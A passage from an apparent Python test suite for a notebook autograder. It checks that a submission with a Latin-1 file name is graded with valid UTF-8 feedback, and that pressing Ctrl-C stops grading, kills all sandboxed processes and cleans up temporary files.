    notebook(os.fsencode(subs) + b"/caf\xe9.ipynb")  # a Latin-1 file name
    run = grade(out, subs)
    ran(run)
    rows = grades(out)
    assert len(rows) == 3 and rows["zz_classmate"] == FULL
    assert rows["surrogate"]["sigmoid_backward"] == 0
    cafe = [name for name in rows if name not in ("surrogate", "zz_classmate")]
    assert len(cafe) == 1 and cafe[0].startswith("caf"), rows
    for name in ("surrogate", cafe[0]):
        assert feedback(out, name).strip()  # strict UTF-8, with a reason or the verdicts
        results(out, name)


def test_ctrl_c_stops_grading_kills_every_sandbox_and_cleans_up(tmp_path):
    subs, out, tmp = tmp_path / "class", tmp_path / "out", tmp_path / "tmp"
    subs.mkdir()
    tmp.mkdir()
    names = [f"a_sleeper{i}" for i in range(1, 5)]
    for name in names:
        notebook(subs / f"{name}.ipynb", cells=["import time; time.sleep(3)"])
    notebook(subs / "zz_classmate.ipynb")
    log = tmp_path / "log.txt"
    with open(log, "w") as f:
        proc = subprocess.Popen(
            grade_args(out, [subs], [], jobs=1),
            stdout=f,
            stderr=f,
            env={**os.environ, "TMPDIR": str(tmp)},
            cwd=tmp_path,
            umask=0o022,
        )
    snapshot: set[tuple[int, int]] = set()
    try:
        deadline = time.monotonic() + 60
        while not list(out.glob("submissions/*/results.json")):
            assert proc.poll() is None and time.monotonic() < deadline, log.read_text()
            time.sleep(0.05)
        # the next submission's sandbox is running: Ctrl-C now
        while not snapshot and time.monotonic() < deadline:
            snapshot = descendants(proc.pid)
            time.sleep(0.05)
        assert snapshot, "no learner process seen after the first result"
        os.kill(proc.pid, signal.SIGINT)
        code = proc.wait(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    left = [pid for pid, start in snapshot if alive(pid, start)]
    kill(left)
    assert code == 130, log.read_text()[-3000:]
    finished = {p.parent.name for p in out.glob("submissions/*/results.json")}
    rows = grades(out)
    assert set(rows) == finished and 1 <= len(rows) < 5
    assert all(rows[name] == FULL for name in rows)
    assert left == [], "processes of the grader outlived Ctrl-C"
    assert list(tmp.glob("course-lib-*")) == []
